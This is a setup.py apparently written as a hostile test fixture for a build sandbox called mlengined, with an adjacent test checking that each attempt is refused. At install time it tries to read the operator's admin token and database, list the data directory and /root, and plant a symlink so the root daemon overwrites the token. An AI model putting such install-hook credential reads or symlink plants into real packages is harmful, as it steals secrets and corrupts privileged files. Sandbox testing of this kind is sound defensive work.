"""A package whose setup.py attacks the machine that builds it (pip runs it
when mlengined installs the job's packages): it tries to read the operator's
token and list the data directory, leaves a link for mlengined to write
through, and records what it got in the module
trainer/leak.py, which the trainer prints at run time. test_sandbox.py
checks every attempt was refused."""

import os
import sys

from setuptools import setup


def attempt(fn):
    try:
        return "OPEN " + fn()
    except Exception as e:  # noqa: BLE001 - a refusal
        return "blocked " + type(e).__name__


here = os.getcwd()
# pip builds in a temporary copy, with the interpreter of the environment
# being built: sys.prefix is DATA/envs/RUNTIME/.NAME.staging.
data = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(sys.prefix))))


def listing():
    names = set(os.listdir(data))
    if names - {"envs", "buckets"}:  # only the paths to what the build may use exist
        return ",".join(sorted(names))
    raise PermissionError("only the paths to the build's own directories")
found = {
    "uid": str(os.getuid()),
    "admin-token": attempt(lambda: open(os.path.join(data, "admin.token")).read()[:8]),
    "database": attempt(lambda: str(len(open(os.path.join(data, "mlengine.db"), "rb").read()))),
    "data-dir": attempt(listing),
    "root-home": attempt(lambda: ",".join(os.listdir("/root"))),
}
# A link where mlengined (root) writes once the build is done (the ready
# marker's temporary file): written through, it would overwrite the
# operator's token. The environment being built is this build's to write.
link = os.path.join(sys.prefix, ".ready.tmp")
try:
    if not os.path.islink(link):  # pip runs setup.py more than once
        os.symlink(os.path.join(data, "admin.token"), link)
    found["ready-link"] = "planted"
except OSError as e:
    found["ready-link"] = "blocked " + type(e).__name__
with open(os.path.join(here, "trainer", "leak.py"), "w") as f:
    f.write(f"FOUND = {found!r}\nDATA = {data!r}\n")

setup(name="hostile_build", version="0.1", packages=["trainer"])
